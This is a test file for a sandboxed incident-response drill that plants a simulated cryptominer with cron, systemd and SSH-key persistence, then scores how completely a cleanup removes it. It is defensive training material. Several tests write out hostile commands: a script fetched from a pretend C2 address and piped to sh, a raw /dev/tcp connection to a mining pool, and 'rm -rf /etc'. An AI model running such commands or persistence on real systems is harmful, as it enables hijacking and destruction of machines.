import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { formatScore } from '../../src/drill/format-score.ts';
import { lookInside } from '../../src/drill/look.ts';
import { readManifest } from '../../src/drill/manifest.ts';
import { type Sandbox, startSandbox } from '../../src/drill/sandbox.ts';
import type { Manifest } from '../../src/drill/scene.ts';
import { scoreDrill } from '../../src/drill/score.ts';
import { runTool } from '../../src/host/run-tool.ts';
import { findTool } from '../../src/host/tool-lookup.ts';
import { cleanUp, pauseCron } from './clean-up.ts';
import { inside, textInside, until } from './inside.ts';
import { compareSnapshots, compareWithPlanted, snapshotFiles } from './snapshot.ts';

const started: Sandbox[] = [];
let sandbox: Sandbox;
let manifest: Manifest;

async function infected(seed = 1): Promise<Sandbox> {
  sandbox = await startSandbox({ scenario: 'noisy', seed });
  started.push(sandbox);
  manifest = readManifest(sandbox.folder);
  return sandbox;
}

async function endAll(): Promise<void> {
  for (const each of started.splice(0)) await each.end();
}

async function miners() {
  const { processes } = await lookInside(sandbox, {});
  return processes.filter((each) => each.commandLine.includes(manifest.miner.wallet) && each.state !== 'Z');
}

function place(what: string): string {
  return manifest.infection.find((trace) => trace.what === what)?.place ?? '';
}

describe('the noisy scenario, untouched', () => {
  beforeAll(async () => {
    await infected();
  });
  afterAll(endAll);

  test('has one miner by its looks: path, arguments, wallet, priority and a connection to the pool', async () => {
    const [miner, ...others] = await miners();
    expect(others).toEqual([]);
    expect(miner?.exe).toBe(place('miner program'));
    expect(miner?.exe).toMatch(/^\/tmp\/\./);
    expect(miner?.commandLine).toMatch(/ -o stratum\+tcp:\/\/203\.0\.113\.9:3333 .*--donate-level 1/);
    expect(miner?.commandLine).toMatch(/\b[48][0-9AB][1-9A-HJ-NP-Za-km-z]{93}\b/);
    expect(await textInside(sandbox, 'cut -d" " -f19 "/proc/$1/stat"', String(miner?.pid))).toBe('19');
    const sockets = await textInside(
      sandbox,
      'readlink "/proc/$1"/fd/* | grep -c ^socket',
      String(miner?.pid),
    );
    expect(Number(sockets)).toBe(1);
    expect(await textInside(sandbox, 'grep -c " 097100CB:0D05 01 " /proc/net/tcp')).toBe('1');
    const contacts = readFileSync(join(sandbox.folder, 'contacts.jsonl'), 'utf8').trim().split('\n');
    expect(JSON.parse(contacts[0] ?? '').text).toContain('"method":"login"');
  });

  test('has seven ways to come back, and every one of them is a file or a line that is really there', async () => {
    const score = await scoreDrill(sandbox);
    expect(score.missed.map((each) => each.what).sort()).toEqual(
      [
        ...[
          'authorized key',
          'cron file',
          'crontab line',
          'hosts line',
          'hosts line',
          'miner',
          'miner program',
        ],
        ...['miner script', 'shell start line', 'starter', 'systemd unit', 'unit enabled'],
      ].sort(),
    );
  });

  test('is lost while nothing was done, with nothing damaged', async () => {
    const score = await scoreDrill(sandbox, {
      foundPaths: [place('cron file'), place('miner program'), place('systemd unit'), '/etc/passwd'],
    });
    expect(score).toMatchObject({
      isWon: false,
      contained: false,
      evicted: { done: 0, of: 12 },
      found: { done: 5, of: 12 }, // the cron file, the program and its process, the unit and its link
      cameBack: [],
      damaged: [],
    });
    expect(formatScore(score)).toContain('Drill lost: 12 parts of the infection still there.');
  });

  test('has the ordinary beside it, running', async () => {
    const { processes } = await lookInside(sandbox, {});
    const running = manifest.ordinary.filter((each) => each.kind === 'process');
    expect(running.length).toBeGreaterThanOrEqual(5);
    for (const each of running) {
      expect(processes.find((seen) => seen.pid === each.pid)?.state, each.what).toMatch(/[RS]/);
    }
    const meter = running.find((each) => each.what === 'daemon with a deleted program');
    expect(processes.find((seen) => seen.pid === meter?.pid)?.exe).toBe('/usr/lib/meterd/meterd (deleted)');
    expect(await textInside(sandbox, 'grep -c " 0100007F:0D05 01 " /proc/net/tcp')).toBe('1');
    expect(await textInside(sandbox, 'cat "/srv/share/Quarterly report (final) 2026.csv" | head -1')).toBe(
      'month;income',
    );
  });

  test('has files that are the same under every name, so that they can be linked aside and edited', async () => {
    for (const path of ['/etc/hosts', '/root/.bashrc', place('cron file'), place('crontab line')]) {
      const same =
        'ln "$1" /var/tmp/linked && stat -c %d:%i "$1" /var/tmp/linked | uniq | wc -l; rm /var/tmp/linked';
      expect(await textInside(sandbox, same, path), path).toBe('1');
    }
  });

  test('mixes bad and ordinary lines in the same files', () => {
    for (const path of [place('crontab line'), '/root/.bashrc', '/root/.ssh/authorized_keys', '/etc/hosts']) {
      const shared = manifest.ordinary.find((each) => each.kind === 'text' && each.path === path);
      expect(shared, path).toMatchObject({ badLines: expect.arrayContaining([expect.any(String)]) });
      expect(shared?.kind === 'text' && shared.cleanText.trim(), path).not.toBe('');
    }
  });

  test('runs a real cron daemon where there is one and the drill may', async () => {
    const daemon = (await findTool('cron')) ?? (await findTool('crond'));
    if (sandbox.record.mode === 'root' && daemon !== null) {
      const shipped = await until(
        () => textInside(sandbox, 'cat /run/hostwatch.shipped 2> /dev/null || :'),
        (text) => text !== '',
      );
      expect(shipped).toMatch(/^\d+$/);
    } else {
      expect(manifest.notes.join()).toContain('cron daemon');
    }
  });

  test('has one package that waits for its upgrade, where there is apt', async () => {
    if ((await findTool('apt-get')) !== null && sandbox.record.mode === 'root') {
      const upgrades = await textInside(sandbox, 'apt-get -s upgrade | grep ^Inst');
      expect(upgrades).toBe('Inst ledger-tools [1.0] (1.1 drill-security:drill-security [all])');
      await textInside(sandbox, 'DEBIAN_FRONTEND=noninteractive apt-get -qy upgrade');
      expect(await textInside(sandbox, 'cat /usr/share/ledger-tools/version')).toBe('1.1');
      expect(await textInside(sandbox, 'dpkg -S /usr/lib/meterd/meterd; dpkg -V meterd ledger-tools')).toBe(
        'meterd: /usr/lib/meterd/meterd',
      );
      expect((await scoreDrill(sandbox)).damaged).toEqual([]);
    } else {
      expect(manifest.notes.join()).toMatch(/upgraded/);
    }
  });
});

/** Times of change tell of any write. */
async function machineState(): Promise<string> {
  const places = [
    '/etc',
    '/var/spool/cron',
    '/root/.ssh',
    '/root/.bashrc',
    ...(manifest ? Object.keys(manifest.planted) : []),
  ];
  const listed = await runTool(['find', ...new Set(places), '-xdev', '-printf', '%p %i %C@ %m %u\\n']);
  return listed.stdout.toString();
}

describe('responding to the noisy scenario', () => {
  afterEach(endAll);

  test('touches nothing of the machine, infected or cleaned', async () => {
    await infected(11);
    // The same names are planted again, now that they are known.
    await endAll();
    const before = await machineState();
    await infected(11);
    expect(await machineState()).toBe(before);
    await cleanUp(sandbox, manifest);
    await textInside(sandbox, 'rm -rf /etc /srv 2> /dev/null; :');
    await endAll();
    expect(await machineState()).toBe(before);
  });

  test('a block cuts the miner off: its connection stalls, the pool cannot be reached', async () => {
    await infected();
    const rules =
      'add table inet t; add chain inet t o { type filter hook output priority 0; }; add rule inet t o ip daddr { 203.0.113.9, 203.0.113.20 } drop';
    const answers = await textInside(
      sandbox,
      `exec 3<> /dev/tcp/203.0.113.9/3333
      echo '{"method":"login"}' >&3 && read -r -u 3 line && echo before: yes
      nft -f - <<< "$1"
      echo '{"method":"keepalived"}' >&3; read -r -t 0.5 -u 3 line && echo after: yes || echo after: no`,
      rules,
    );
    expect(answers.split('\n')).toEqual(['before: yes', 'after: no']);
    expect((await scoreDrill(sandbox)).contained).toBe(true);
    expect(await miners()).toHaveLength(1);
  });

  test('is won by cleaning up by hand, with everything ordinary left as it was', async () => {
    await infected(7);
    await cleanUp(sandbox, manifest);
    const score = await scoreDrill(sandbox);
    expect(score.missed).toEqual([]);
    expect(score.damaged).toEqual([]);
    expect(score).toMatchObject({ isWon: true, evicted: { done: 12, of: 12 }, cameBack: [] });
    expect(formatScore(score)).toContain('Drill won');
  });

  test('counts a miner whose program was moved away but still runs', async () => {
    await infected();
    await textInside(sandbox, 'mv "$1" /root/kept', place('miner program'));
    const score = await scoreDrill(sandbox);
    expect(score.missed.map((each) => each.what)).toContain('miner');
    expect(score.missed.map((each) => each.what)).not.toContain('miner program');
  });

  test('comes back when only the process is killed, once, and by whom is known', async () => {
    await infected();
    await pauseCron(sandbox, manifest);
    for (const miner of await miners()) await textInside(sandbox, 'kill -9 "$1"', String(miner.pid));
    await until(miners, (left) => left.length === 0);
    for (let each = 0; each < 3; each += 1) await textInside(sandbox, '"$1" cron.d', place('starter'));
    await until(miners, (back) => back.length === 1 && back[0]?.exe === place('miner program'));
    const score = await until(
      () => scoreDrill(sandbox),
      (seen) => seen.cameBack.length > 0,
    );
    expect(score.cameBack.map((each) => each.by)).toEqual(['cron.d']);
    expect(formatScore(score)).toContain('came back  once, by cron.d');
  });

  test('comes back from the pretend C2 server when its files are gone too', async () => {
    await infected();
    await pauseCron(sandbox, manifest);
    const [miner] = await miners();
    await textInside(
      sandbox,
      'kill -9 "$1"; rm -r "$2"',
      String(miner?.pid),
      place('miner program').replace(/[^/]*$/, ''),
    );
    const address = /http:\S+?\.sh/.exec(
      manifest.infection.find((each) => each.kind === 'line')?.text ?? '',
    )?.[0];
    const fetch = `await fetch(${JSON.stringify(address)}).then((r) => r.text()).then((t) => process.stdout.write(t))`;
    await textInside(sandbox, '"$1" --input-type=module --eval "$2" | sh', process.execPath, fetch);
    const back = await until(miners, (seen) => seen.length === 1 && seen[0]?.exe === place('miner program'));
    expect(back[0]?.pid).not.toBe(miner?.pid);
    expect((await scoreDrill(sandbox)).cameBack.map((each) => each.by)).toEqual(['download']);
  });

  test('names what was damaged: a line, a process, a file, a mode, a file of the machine', async () => {
    await infected();
    await textInside(
      sandbox,
      `grep -v nightly.tar.gz "$1" > /tmp/new; cat /tmp/new > "$1"
      kill -9 "$2"; chmod 600 /srv/jobs/nightly*; echo x >> /opt/ledgerdb/server.mjs; rm /etc/profile /etc/systemd/system/multi-user.target.wants/hostwatch-agent.service`,
      place('crontab line'),
      String(
        manifest.ordinary.flatMap((each) =>
          each.what === 'database on port 3333' && each.kind === 'process' ? [each.pid] : [],
        ),
      ),
    );
    const { damaged, isWon } = await scoreDrill(sandbox);
    expect(isWon).toBe(false);
    const details = damaged.map((each) => `${each.what}: ${each.detail}`);
    expect(details.sort()).toEqual([
      expect.stringContaining('database on port 3333: does not run any more'),
      'database: contents changed, modification time changed',
      expect.stringContaining('file of the machine itself: is gone'),
      expect.stringMatching(/^file shared with the infection: lost: 15 3 \* \* \* curl/),
      'name with spaces: mode changed',
      'unit of the agent enabled: is gone',
    ]);
  });

  test('the miner leaves almost half of a core alone, and ends by itself in its time', async () => {
    await infected();
    const script = place('miner script');
    const text = await textInside(sandbox, 'cat "$1"', script);
    const parts = /ends=\$\(\(SECONDS \+ (\d+)\)\)/.exec(text);
    expect(parts?.[1]).toBe(String(30 * 60));
    const short = text.replace('SECONDS + 1800', 'SECONDS + 2');
    const used = await textInside(
      sandbox,
      'printf "%s\ntimes\n" "$1" > /tmp/short; from=$EPOCHREALTIME; "$2" /tmp/short -o stratum+tcp://203.0.113.9:3333 -u nobody; echo "$from $EPOCHREALTIME"',
      short,
      place('miner program'),
    );
    const [, user = '0', system = '0', from = '0', to = '0'] =
      /^0m([\d.]+)s 0m([\d.]+)s\n.*\n([\d.]+) ([\d.]+)$/.exec(used) ?? [];
    expect(Number(user) + Number(system)).toBeGreaterThan(0.01);
    expect((Number(user) + Number(system)) / (Number(to) - Number(from))).toBeLessThan(0.65);
  });

  test('a snapshot tells whether undo brought everything back bit for bit', async () => {
    await infected();
    const before = await snapshotFiles(sandbox);
    expect(await compareWithPlanted(sandbox)).toEqual([]);
    const file = place('cron file');
    await textInside(sandbox, 'cp -p "$1" /tmp/kept; rm "$1"; touch -d 2020-01-01 /etc/hosts', file);
    expect(compareSnapshots(before, await snapshotFiles(sandbox))).toEqual([
      `${file}: is gone`,
      '/etc/hosts: modification time changed',
    ]);
    await textInside(sandbox, 'mv /tmp/kept "$1"', file);
    expect(compareSnapshots(before, await snapshotFiles(sandbox))).toEqual([
      '/etc/hosts: modification time changed',
    ]);
  });

  test('an immutable configuration stays immutable, where the file system knows that', async () => {
    await infected();
    const conf = manifest.ordinary.find((each) => each.what === 'immutable configuration');
    const attributes = conf?.kind === 'file' ? conf.state.attributes : null;
    if (attributes === 'i') {
      expect((await inside(sandbox, 'echo x >> /etc/hostwatch/agent.conf')).exitCode).not.toBe(0);
      await textInside(sandbox, 'chattr -i /etc/hostwatch/agent.conf');
      expect((await scoreDrill(sandbox)).damaged).toMatchObject([{ detail: 'attributes changed' }]);
    } else if (sandbox.record.mode === 'root') {
      expect(manifest.notes.join()).toContain('could not be made immutable');
    }
  });
});
